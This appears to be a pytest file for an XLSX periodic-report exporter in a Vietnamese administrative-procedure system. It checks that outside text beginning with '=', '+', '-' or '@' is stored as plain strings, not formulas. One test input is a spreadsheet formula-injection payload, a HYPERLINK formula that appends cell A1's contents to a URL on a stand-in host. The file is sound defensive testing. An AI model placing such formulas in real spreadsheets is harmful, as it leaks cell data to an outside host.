"""reports.xlsx and outside text (issue 12 case 4): a field name, the department or a decision's số hiệu
that starts with "=" is shown as text in the periodic report's workbook, never stored as a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import date

from openpyxl import load_workbook
from tthc.reports.periodic.model import AnnouncementLine, PeriodicReport, Row, Totals
from tthc.reports.periodic.periods import period_for, previous
from tthc.reports.periodic.xlsx import render_xlsx

H2 = period_for("half", 2026, 2)
FIELD = '=HYPERLINK("http://x.example/?"&A1,"Sở hữu trí tuệ")'
SO_HIEU = "=1+2/QĐ-UBND"
DEPARTMENT = "@SUM(1)"


def _report() -> PeriodicReport:
    rows = [Row(FIELD, "cap_tinh", new=2, on_time=2), Row("+84 lĩnh vực", "cap_xa", amended=1, late=1),
            Row("-Lĩnh vực", "", abolished=1, on_time=1)]
    return PeriodicReport(H2, DEPARTMENT, "Tỉnh =X", [AnnouncementLine(SO_HIEU, date(2026, 10, 20), "=trích yếu", 4, 1)],
                          rows, Totals.of(rows, 1), previous(H2), Totals(), None)


def test_outside_text_is_never_a_formula() -> None:
    data = render_xlsx(_report())
    ws = load_workbook(io.BytesIO(data)).active  # not data_only: a formula would read back as one
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (FIELD, "+84 lĩnh vực", "-Lĩnh vực", DEPARTMENT.upper()):
        assert text in cells and cells[text].data_type == "s"
    assert cells[FIELD].column_letter == "B"
    assert "- Quyết định số =1+2/QĐ-UBND ngày 20/10/2026: 4 TTHC (trễ hạn 1)" in cells


def test_numbers_stay_numbers() -> None:
    ws = load_workbook(io.BytesIO(render_xlsx(_report()))).active
    row = next(r for r in ws.iter_rows() if r[1].value == FIELD)
    assert [c.value for c in row[3:9]] == [2, 2, 0, 0, 2, 0] and row[3].data_type == "n"


def test_the_same_report_gives_the_same_bytes() -> None:
    assert render_xlsx(_report()) == render_xlsx(_report())
